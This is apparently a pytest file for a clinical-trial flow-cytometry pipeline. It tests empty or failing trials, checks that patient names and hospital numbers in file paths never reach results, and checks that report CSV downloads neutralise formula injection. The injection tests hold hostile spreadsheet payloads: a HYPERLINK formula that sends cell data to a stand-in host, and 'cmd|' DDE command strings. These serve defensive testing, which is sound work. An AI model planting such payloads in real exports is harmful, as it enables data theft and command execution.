"""Bad inputs, judged by what reaches the outputs: part of the bad-input catalogue begun in
tests/unit/io/test_bad_input.py (issue 14, "Never silently wrong").

Each case gives an input, the behaviour or message it must produce, and a check that
nothing else was lost (good samples keep their results; the report lists each failure):

- degenerate trials: a header-only sample sheet (clinical data, no FCS samples yet) and a
  trial in which every sample fails still get every output (tables with their header,
  figures that say why they are empty) and a report that says so plainly;
- patient identifiers: an FCS path holding a name and a hospital number never reaches
  results/ (records, TSVs, Gating-ML, plots, report and its CSVs); only the job's log
  may name the file;
- CSV injection: a text cell of a CSV the report offers for download that starts with
  = + - @ tab or carriage return is prefixed with ' (numbers stay numbers).

The fast cases run the flow branch in-process (the functions the rules' scripts call);
the slow ones run snakemake on a copied workflow with a small trial.
"""

from __future__ import annotations

import base64
import json
import logging
import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from helpers.bad_input import FlowSetup, break_bytes, rewrite, simulated_flow
from helpers.paths import REPO, SCHEMA_DIR
from helpers.report_config import default_config
from markupsafe import escape

from cytotrial.cohort import sample_inventory, samples_per_timepoint
from cytotrial.fcs import FcsError, read_fcs
from cytotrial.flow.cohort.aggregate import aggregate_job
from cytotrial.flow.cohort.job import flow_statistics_job
from cytotrial.flow.cohort.qc import cohort_qc_job
from cytotrial.flow.gating.template import read_gating_template
from cytotrial.flow.sample.job import run_sample_job
from cytotrial.flow.settings import CohortQCSettings, StatisticsSettings
from cytotrial.io.inputs import SAMPLE_COLUMNS, read_sample_sheet
from cytotrial.io.panel import read_panel
from cytotrial.io.results import write_tsv
from cytotrial.report.build import build_report
from cytotrial.report.flow_sections import FIGURES
from cytotrial.report.model import ReportTable
from cytotrial.report.settings import RunSettings
from cytotrial.simulate.trial import DEFAULT_SEED

PANEL = REPO / "resources/panel.yaml"
TEMPLATE = REPO / "resources/gating/pbmc_cd38.yaml"
QC = {"min_events": 1000}
# A file name as acquisition software writes it: the patient's name and hospital number.
NAME, NUMBER = "Jansen_Maria", "1234567"
IDENTIFIERS = ("Jansen", "Maria", NUMBER)


@pytest.fixture(scope="module")
def flow(tmp_path_factory) -> FlowSetup:
    return simulated_flow(tmp_path_factory.mktemp("fcs"))


# How a file is broken: the kinds the failure-isolation and bad-input tests cover.
BREAKS = (
    "truncated",
    "header_only",
    "not_fcs",
    "empty",
    "wrong_offsets",
    "huge_tot",
    "bad_datatype",
    "zero_events",
    "no_cd38_channel",
    "duplicate_channel",
)


def broken_file(flow: FlowSetup, path: Path, how: str) -> Path:
    """`path` written as a copy of the good file broken in way `how`."""
    path.parent.mkdir(parents=True, exist_ok=True)
    if how == "zero_events":
        return rewrite(flow, path, flow.events[:0], TOT="0")
    if how == "no_cd38_channel":  # APC-A (CD38, the MFI channel) renamed
        return rewrite(flow, path, flow.events, P10N="APX-A")
    if how == "duplicate_channel":
        events = np.hstack([flow.events, flow.events[:, 9:10] * 2])
        extra = {"PAR": "15", "P15N": "APC-A", "P15B": "32", "P15E": "0,0", "P15R": "262144"}
        return rewrite(flow, path, events, **extra)
    path.write_bytes(break_bytes(flow, how))
    return path


def identifying_path(folder: Path, sample_id: str) -> Path:
    """fcs/Jansen_Maria_1234567/Jansen_Maria_1234567_<sample>.fcs"""
    return folder / "fcs" / f"{NAME}_{NUMBER}" / f"{NAME}_{NUMBER}_{sample_id}.fcs"


def leaks(text: str, path: Path) -> list[str]:
    """The identifiers (name, number, the file's path or name) that `text` contains."""
    found = [word for word in IDENTIFIERS if word.lower() in text.lower()]
    return found + [p for p in (str(path), path.name) if p in text]


def sheet_rows(samples: list[tuple[str, Path]]) -> list[dict]:
    """Sample-sheet records (patient, part, timepoint from the demo's naming PTnnn_A_C1D1)."""
    rows = []
    for sample_id, fcs in samples:
        patient, part, timepoint = sample_id.split("_")
        rows.append(
            {
                "sample_id": sample_id,
                "patient_id": patient,
                "part": part,
                "timepoint": timepoint,
                "batch": "",
                "fcs": str(fcs),
                "leukocytes_per_ul": 5000.0,
            }
        )
    return rows


def run_flow_branch(folder: Path, samples: list[tuple[str, Path]]) -> Path:
    """The flow branch as the rules run it (inventory, one job per sample, aggregate,
    statistics, report without clinical sections); returns the results folder."""
    results = folder / "results"
    flow_dir = results / "flow"
    records = sheet_rows(samples)
    inventory = sample_inventory(pd.DataFrame(records), read_panel(PANEL).channel_names)
    write_tsv(inventory, flow_dir / "sample_inventory.tsv")
    write_tsv(samples_per_timepoint(inventory), flow_dir / "samples_per_timepoint.tsv")
    populations, record_files, plots = [], [], {}
    for sample_id, fcs in samples:
        out = flow_dir / "samples" / sample_id
        run_sample_job(
            sample_id,
            fcs,
            PANEL,
            TEMPLATE,
            QC,
            f"{out}.populations.tsv",
            f"{out}.json",
            flow_dir / "plots" / f"{sample_id}.gating.png",
            f"{out}.gating.xml",
        )
        populations.append(f"{out}.populations.tsv")
        record_files.append(f"{out}.json")
        plots[sample_id] = flow_dir / "plots" / f"{sample_id}.gating.png"
    cohort_qc_job(
        records,
        populations,
        record_files,
        CohortQCSettings(),
        flow_dir / "cohort_qc.tsv",
    )
    aggregate_job(
        records,
        populations,
        record_files,
        TEMPLATE,
        flow_dir / "populations.tsv",
        flow_dir / "sample_qc.tsv",
        cohort_qc_tsv=flow_dir / "cohort_qc.tsv",
    )
    figures = {
        f"{name}_{kind}": str(flow_dir / "figures" / f"{name}.{kind}")
        for name in FIGURES
        for kind in ("png", "svg")
    }
    flow_statistics_job(
        flow_dir / "populations.tsv",
        TEMPLATE,
        default_config()["flow"]["comparisons"],
        flow_dir / "cd38_mfi_tests.tsv",
        flow_dir / "cell_count_tests.tsv",
        figures,
        sample_qc_tsv=flow_dir / "sample_qc.tsv",
        statistics=StatisticsSettings(),
        sensitivity_out=flow_dir / "sensitivity_tests.tsv",
    )
    tables = {
        "samples_per_timepoint": flow_dir / "samples_per_timepoint.tsv",
        "sample_inventory": flow_dir / "sample_inventory.tsv",
        "flow_populations": flow_dir / "populations.tsv",
        "sample_qc": flow_dir / "sample_qc.tsv",
        "cohort_qc": flow_dir / "cohort_qc.tsv",
        "mfi_tests": flow_dir / "cd38_mfi_tests.tsv",
        "count_tests": flow_dir / "cell_count_tests.tsv",
        "sensitivity_tests": flow_dir / "sensitivity_tests.tsv",
    }
    build_report(
        [],
        tables,
        {name: figures[f"{name}_png"] for name in FIGURES},
        plots,
        RunSettings.from_config(default_config()),
        results / "report" / "cytotrial_report.html",
        config_as_run=default_config(),
    )
    return results


def header(path: Path) -> list[str]:
    lines = path.read_text().splitlines()
    assert lines, f"{path} is empty: a table always has its header line"
    return lines[0].split("\t")


def flow_section(html: str) -> str:
    start = html.index('<section id="flow">')
    return html[start : html.index("</section>", start)]


def result_texts(results: Path) -> list[tuple[str, str]]:
    """Every file under `results` as text (bytes as latin-1); of the report, the HTML with
    its data: URIs cut out and each URI's decoded payload (CSV downloads, PNGs) apart:
    base64 text would hold short words such as 'maria' by chance."""
    texts = []
    for path in sorted(results.rglob("*")):
        if not path.is_file():
            continue
        text = path.read_bytes().decode("latin-1")
        if path.suffix == ".html":
            uris = re.findall(r"data:[a-z/]+;base64,([A-Za-z0-9+/=]+)", text)
            for number, uri in enumerate(uris):
                payload = base64.b64decode(uri).decode("latin-1")
                texts.append((f"{path.name}, data URI {number}", payload))
            text = re.sub(r"data:[a-z/]+;base64,[A-Za-z0-9+/=]+", "data:", text)
        texts.append((str(path.relative_to(results)), text))
    return texts


def svg_text(path: Path) -> str:
    """The words of a matplotlib SVG (text is drawn as paths, each preceded by a comment)."""
    return " ".join(re.findall(r"<!-- (.*?) -->", Path(path).read_text()))


def run_workflow(folder: Path, sheet: pd.DataFrame, clinical: Path) -> Path:
    """snakemake --cores 2 on a copied workflow with `sheet`; returns the workflow folder."""
    from helpers.small_trial import write_config
    from helpers.workflow import SNAKEMAKE, copy_workflow, run

    workflow = copy_workflow(folder / "wf")
    config = write_config(workflow, sheet, clinical)
    result = run([*SNAKEMAKE, "--cores", "2", "--configfile", str(config)], workflow, 1500)
    assert result.returncode == 0, result.stderr[-5000:]
    return workflow


FLOW_OUTPUTS = (
    "sample_inventory.tsv",
    "samples_per_timepoint.tsv",
    "populations.tsv",
    "sample_qc.tsv",
    "cd38_mfi_tests.tsv",
    "cell_count_tests.tsv",
    "sensitivity_tests.tsv",
)


# ================================================================ degenerate trials


def test_header_only_sample_sheet_reads_as_no_samples(tmp_path):
    path = tmp_path / "samples.tsv"
    path.write_text("\t".join(SAMPLE_COLUMNS[:6]) + "\n")
    samples = read_sample_sheet(path, SCHEMA_DIR)
    assert len(samples) == 0
    assert samples["sample_id"].tolist() == []
    assert samples["fcs"].tolist() == []  # rules/common.smk: all_fcs_files(), FCS_OF_SAMPLE


def test_no_samples_every_output_written_and_the_report_says_so(tmp_path):
    results = run_flow_branch(tmp_path, [])
    flow_dir = results / "flow"
    template = read_gating_template(TEMPLATE)
    assert "cd38_mfi_median_compensated_untransformed" in header(flow_dir / "populations.tsv")
    qc_columns = header(flow_dir / "sample_qc.tsv")
    assert qc_columns[:4] == ["sample_id", "patient_id", "part", "timepoint"]
    assert "status" in qc_columns and "reason" in qc_columns
    gates = [f"pct_{gate.name}" for gate in template.gates]  # a % of parent per gate, as ever
    assert qc_columns[-len(gates) :] == gates
    assert "problem" in header(flow_dir / "sample_inventory.tsv")
    per_timepoint = pd.read_csv(flow_dir / "samples_per_timepoint.tsv", sep="\t")
    assert len(per_timepoint) == 6 and (per_timepoint["samples"] == 0).all()
    for name in ("cd38_mfi_tests.tsv", "cell_count_tests.tsv"):
        tests = pd.read_csv(flow_dir / name, sep="\t")
        assert {"part", "before", "after", "population", "p_value"} <= set(tests.columns)
        assert tests["p_value"].isna().all()
    for name in FIGURES:
        svg = flow_dir / "figures" / f"{name}.svg"
        assert (flow_dir / "figures" / f"{name}.png").stat().st_size > 0
        assert "No FCS samples in the sample sheet" in svg_text(svg), name
    html = (results / "report/cytotrial_report.html").read_text()
    assert "No FCS samples in the sample sheet" in flow_section(html)
    assert "<h2>Gating QC</h2>" in html and "<h2>Samples</h2>" in html


def test_every_sample_failed_every_output_written_and_each_failure_listed(flow, tmp_path):
    samples = [
        ("PT001_A_C1D1", broken_file(flow, tmp_path / "a.fcs", "truncated")),
        ("PT001_A_C2D1", broken_file(flow, tmp_path / "b.fcs", "not_fcs")),
        ("PT002_A_C1D1", broken_file(flow, tmp_path / "c.fcs", "no_cd38_channel")),
    ]
    results = run_flow_branch(tmp_path, samples)
    flow_dir = results / "flow"
    populations = pd.read_csv(flow_dir / "populations.tsv", sep="\t")
    assert populations.empty
    assert "cd38_mfi_median_compensated_untransformed" in populations.columns
    qc = pd.read_csv(flow_dir / "sample_qc.tsv", sep="\t").set_index("sample_id")
    assert sorted(qc.index) == sorted(s for s, _ in samples)
    assert (qc["status"] != "ok").all() and qc["reason"].str.len().gt(0).all()
    for name in FIGURES:
        text = svg_text(flow_dir / "figures" / f"{name}.svg")
        assert "No successful samples (all 3 failed)" in text, name
    section = flow_section((results / "report/cytotrial_report.html").read_text())
    assert "All 3 samples failed:" in section
    for sample_id, reason in qc["reason"].items():
        assert sample_id in section
        assert str(escape(reason)) in section


def test_one_good_sample_keeps_its_results_beside_the_failures(flow, tmp_path):
    samples = [
        ("PT001_A_C1D1", flow.good),
        ("PT001_A_C2D1", broken_file(flow, tmp_path / "b.fcs", "truncated")),
    ]
    results = run_flow_branch(tmp_path, samples)
    populations = pd.read_csv(results / "flow/populations.tsv", sep="\t")
    assert set(populations["sample_id"]) == {"PT001_A_C1D1"}
    section = flow_section((results / "report/cytotrial_report.html").read_text())
    assert "1 sample could not be analysed" in section
    assert "All " not in section and "No FCS samples" not in section


@pytest.mark.slow
def test_workflow_with_a_header_only_sample_sheet(tmp_path):
    """Input: clinical tables and a sample sheet with its header only (no FCS yet).
    Expected: the run succeeds; every flow table is written with its header, every figure
    says 'No FCS samples in the sample sheet', and so does the report's flow section;
    the clinical sections are complete."""
    from cytotrial.simulate.clinical.trial import simulate_clinical

    simulate_clinical(DEFAULT_SEED).write(tmp_path / "clinical")
    sheet = pd.DataFrame(columns=list(SAMPLE_COLUMNS[:6]))
    workflow = run_workflow(tmp_path, sheet, tmp_path / "clinical")
    flow_dir = workflow / "results/flow"
    for name in FLOW_OUTPUTS:
        assert header(flow_dir / name), name
    assert not (flow_dir / "samples").exists()  # no per-sample job ran
    for name in ("cd38_mfi_part_A", "cell_counts_paired"):
        assert "No FCS samples in the sample sheet" in svg_text(flow_dir / f"figures/{name}.svg")
    html = (workflow / "results/report/cytotrial_report.html").read_text()
    assert "No FCS samples in the sample sheet" in flow_section(html)
    for heading in ("Patient flow", "Efficacy", "Survival", "Safety", "Flow cytometry"):
        assert f"<h2>{heading}</h2>" in html


@pytest.mark.slow
def test_workflow_in_which_every_sample_fails(flow, tmp_path):
    """Input: one patient's two samples, a truncated file and a PDF named .fcs.
    Expected: the run succeeds; each sample has its failure record; the report says
    'All 2 samples failed' and gives each sample's reason."""
    from helpers.small_trial import simulate_small_trial

    sheet = simulate_small_trial(tmp_path, ["PT001"]).head(2)
    for path, how in zip(sheet["fcs"], ("truncated", "not_fcs"), strict=True):
        broken_file(flow, Path(path), how)
    workflow = run_workflow(tmp_path, sheet, tmp_path / "clinical")
    qc = pd.read_csv(workflow / "results/flow/sample_qc.tsv", sep="\t").set_index("sample_id")
    assert (qc["status"] == "failed").all() and len(qc) == 2
    assert pd.read_csv(workflow / "results/flow/populations.tsv", sep="\t").empty
    section = flow_section((workflow / "results/report/cytotrial_report.html").read_text())
    assert "All 2 samples failed:" in section
    for sample_id, reason in qc["reason"].items():
        assert f"{sample_id} (failed: {escape(reason)})" in section


# ================================================================ patient identifiers


def test_fcs_error_keeps_the_path_apart(flow, tmp_path):
    path = broken_file(flow, identifying_path(tmp_path, "S1"), "truncated")
    with pytest.raises(FcsError) as error:
        read_fcs(path)
    assert str(error.value).startswith(f"{path}: file is truncated")  # for the user and log
    assert error.value.path == str(path)
    assert error.value.detail.startswith("file is truncated")
    assert leaks(error.value.detail, path) == []


@pytest.mark.parametrize("how", BREAKS)
def test_failure_reason_names_no_path(flow, tmp_path, caplog, how):
    """Input: a sample whose FCS path holds a name and hospital number, broken in one way.
    Expected: a failure record whose reason says what is wrong but never names the file;
    nothing the job writes (record, table, Gating-ML, plot) holds the path; the log does."""
    path = broken_file(flow, identifying_path(tmp_path, "PT001_A_C1D1"), how)
    out = tmp_path / "out"
    with caplog.at_level(logging.INFO):
        status = run_sample_job(
            "PT001_A_C1D1",
            path,
            PANEL,
            TEMPLATE,
            QC,
            out / "S.populations.tsv",
            out / "S.json",
            out / "S.gating.png",
            out / "S.gating.xml",
        )
    record = json.loads((out / "S.json").read_text())
    assert status == record["status"] != "ok"
    assert record["reason"] and "PT001_A_C1D1" not in record["reason"]  # the ID is the row's
    for written in out.iterdir():
        assert leaks(written.read_bytes().decode("latin-1"), path) == [], written.name
    assert str(path) in caplog.text  # the job's own log names the file


def test_vanished_file_reason_names_no_path(flow, tmp_path):
    path = identifying_path(tmp_path, "S1")  # listed in the sheet, gone when the job runs
    from cytotrial.flow.sample.analysis import analyse_sample

    result = analyse_sample("S1", path, flow.panel, flow.template, keep_plot_data=False)
    assert result.status == "failed"
    assert result.reason == "cannot open the file: No such file or directory"


# The inventory reads HEADER and TEXT only: these are the breaks it sees.
@pytest.mark.parametrize("how", ["not_fcs", "empty", "no_cd38_channel"])
def test_inventory_problem_names_no_path(flow, tmp_path, how):
    path = broken_file(flow, identifying_path(tmp_path, "PT001_A_C1D1"), how)
    records = sheet_rows([("PT001_A_C1D1", path), ("PT002_A_C1D1", flow.good)])
    inventory = sample_inventory(pd.DataFrame(records), flow.panel.channel_names)
    problem = inventory.set_index("sample_id")["problem"]
    assert problem["PT001_A_C1D1"] and problem["PT002_A_C1D1"] == ""  # the good one is read
    assert leaks(inventory.to_csv(sep="\t"), path) == []


def test_imported_gating_spillover_error_names_no_file(flow, tmp_path):
    from cytotrial.flow.interop.gatingml_strategy import read_events_float64

    path = rewrite(flow, identifying_path(tmp_path, "S1"), flow.events, SPILLOVER="2,A,B,x")
    with pytest.raises(FcsError) as error:
        read_events_float64(path)
    assert "keyword $SPILLOVER" in error.value.detail
    assert leaks(error.value.detail, path) == []


def test_identifying_paths_stay_out_of_every_result(flow, tmp_path):
    """Every way of breaking a file, in one run with a good sample: no file under results/
    holds the name, the number or a path; each failure is listed; the good sample is kept."""
    samples = [("PT002_A_C1D1", flow.good)]
    for number, how in enumerate(BREAKS, start=3):
        sample_id = f"PT{number:03d}_A_C1D1"
        samples.append((sample_id, broken_file(flow, identifying_path(tmp_path, sample_id), how)))
    results = run_flow_branch(tmp_path, samples)
    folder = samples[1][1].parent
    for name, text in result_texts(results):
        assert leaks(text, folder) == [], name
    html = (results / "report/cytotrial_report.html").read_text()
    qc = pd.read_csv(results / "flow/sample_qc.tsv", sep="\t").set_index("sample_id")
    assert qc.loc["PT002_A_C1D1", "status"] == "ok"
    assert (qc.drop(index="PT002_A_C1D1")["status"] != "ok").all()
    failed_table = html[html.index("Failed or flagged samples") :]
    for sample_id, _ in samples[1:]:
        assert sample_id in failed_table
    populations = pd.read_csv(results / "flow/populations.tsv", sep="\t")
    assert set(populations["sample_id"]) == {"PT002_A_C1D1"}


# ================================================================ CSV injection


def csv_download(table: ReportTable) -> pd.DataFrame:
    payload = base64.b64decode(table.csv_data_uri.split(",", 1)[1]).decode()
    from io import StringIO

    return pd.read_csv(StringIO(payload), keep_default_na=False, dtype=str)


def test_csv_downloads_neutralise_formulas_but_keep_numbers():
    frame = pd.DataFrame(
        {
            "detail": ['=HYPERLINK("http://x.example/?d="&A1,"click")', "@SUM(1)", "rash"],
            "regimen": ["+cmd|' /C calc'!A0", "-2+3", "\tdaratumumab"],
            "estimate": [-0.5, 1.25, -3.0],  # a numeric column: stays numeric
            "text_number": ["-0.5", "1e-3", "\rnote"],  # numbers as text stay numbers
        }
    )
    table = ReportTable("AE", frame, "ae.csv")
    csv = csv_download(table)
    assert csv["detail"].tolist() == [
        '\'=HYPERLINK("http://x.example/?d="&A1,"click")',
        "'@SUM(1)",
        "rash",
    ]
    assert csv["regimen"].tolist() == ["'+cmd|' /C calc'!A0", "'-2+3", "'\tdaratumumab"]
    assert csv["estimate"].tolist() == ["-0.5", "1.25", "-3.0"]
    assert csv["text_number"].tolist() == ["-0.5", "1e-3", "'\rnote"]
    assert table.rows[0][0].startswith("=HYPERLINK")  # the HTML table shows the text as is
    assert frame["detail"].iloc[1] == "@SUM(1)"  # the table itself is not changed


# ====================================================== a workflow run: identifiers, CSV


INJECTED_DETAIL = '=HYPERLINK("http://x.example/?leak="&A1,"details")'
INJECTED_REGIMEN = "@SUM(1)"
INJECTED_BATCH = "-2+3+cmd|' /C calc'!A0"


def csv_downloads(html: str) -> dict[str, list[list[str]]]:
    """The report's CSV downloads by file name, as rows of cells."""
    import csv
    import io

    found = re.findall(r'download="([^"]+)" href="data:text/csv;base64,([A-Za-z0-9+/=]+)"', html)
    return {
        name: list(csv.reader(io.StringIO(base64.b64decode(uri).decode(), newline="")))
        for name, uri in found
    }


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.slow
def test_workflow_keeps_identifiers_out_and_neutralises_downloads(flow, tmp_path):
    """Input: PT001's samples (good) and four samples of PT002/PT003 whose files, named
    Jansen_Maria_1234567_<sample>.fcs, are broken four ways; an adverse-event detail
    '=HYPERLINK(...)', a regimen '@SUM(1)' and a batch '-2+3+cmd|...'.
    Expected: no file under results/ holds the name, the number or a path (the logs may);
    each failure is listed by sample ID with its reason; PT001 keeps its results; every
    CSV download has its formula-like text cells prefixed with ' and numbers unchanged."""
    from helpers.bad_input import broken_clinical
    from helpers.small_trial import simulate_small_trial

    sheet = simulate_small_trial(tmp_path, ["PT001", "PT002", "PT003"])
    broken = sheet[sheet["patient_id"] != "PT001"].head(4).index
    kinds = ("truncated", "not_fcs", "zero_events", "no_cd38_channel")
    for index, how in zip(broken, kinds, strict=True):
        path = identifying_path(tmp_path, sheet.loc[index, "sample_id"])
        sheet.loc[index, "fcs"] = str(broken_file(flow, path, how))
    sheet = sheet[(sheet["patient_id"] == "PT001") | sheet.index.isin(broken)]
    sheet.loc[sheet.index[0], "batch"] = INJECTED_BATCH

    def inject_detail(frame: pd.DataFrame) -> None:
        assert (frame["detail"] != "").sum() > 0
        frame.loc[frame["detail"] != "", "detail"] = INJECTED_DETAIL

    def inject_regimen(frame: pd.DataFrame) -> None:
        frame.loc[(frame["line"] == "1").idxmax(), "regimen"] = INJECTED_REGIMEN

    ae_edited = broken_clinical(
        tmp_path / "clinical", tmp_path / "ae", "adverse_events", inject_detail
    )
    edited = broken_clinical(ae_edited, tmp_path / "edited", "subsequent_therapies", inject_regimen)
    workflow = run_workflow(tmp_path, sheet, edited)

    folder = identifying_path(tmp_path, "x").parent
    for name, text in result_texts(workflow / "results"):
        assert leaks(text, folder) == [], name
    failed = sheet.loc[broken, "sample_id"]
    for sample_id in failed:  # only the job's own log names the file
        log = (workflow / f"logs/flow/analyse_sample/{sample_id}.log").read_text()
        assert str(identifying_path(tmp_path, sample_id)) in log

    qc = pd.read_csv(workflow / "results/flow/sample_qc.tsv", sep="\t").set_index("sample_id")
    assert (qc.loc[failed, "status"] != "ok").all()
    good = sorted(set(sheet["sample_id"]) - set(failed))
    assert (qc.loc[good, "status"] == "ok").all()
    populations = pd.read_csv(workflow / "results/flow/populations.tsv", sep="\t")
    assert sorted(set(populations["sample_id"])) == good
    html = (workflow / "results/report/cytotrial_report.html").read_text()
    # the per-sample tables (and their downloads) are on the second, gating page
    html += (workflow / "results/report/cytotrial_report_gating.html").read_text()
    html = html.replace("<wbr>", "")  # break opportunities in long words
    failed_table = html[html.index("Failed or flagged samples") :]
    for sample_id in failed:
        assert sample_id in failed_table and str(escape(qc.loc[sample_id, "reason"])) in html

    downloads = csv_downloads(html)
    cells = [(name, cell) for name, rows in downloads.items() for row in rows for cell in row]
    for name, cell in cells:
        if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
            assert is_number(cell), (name, cell)  # only numbers may start so
        if cell.startswith("'") and len(cell) > 1:
            assert not is_number(cell[1:]), (name, cell)  # no number was quoted
    texts = {cell for _, cell in cells}
    assert f"'{INJECTED_REGIMEN}" in texts
    assert f"'{INJECTED_BATCH}" in texts
    assert any(cell.startswith(f"'{INJECTED_DETAIL}") for cell in texts)
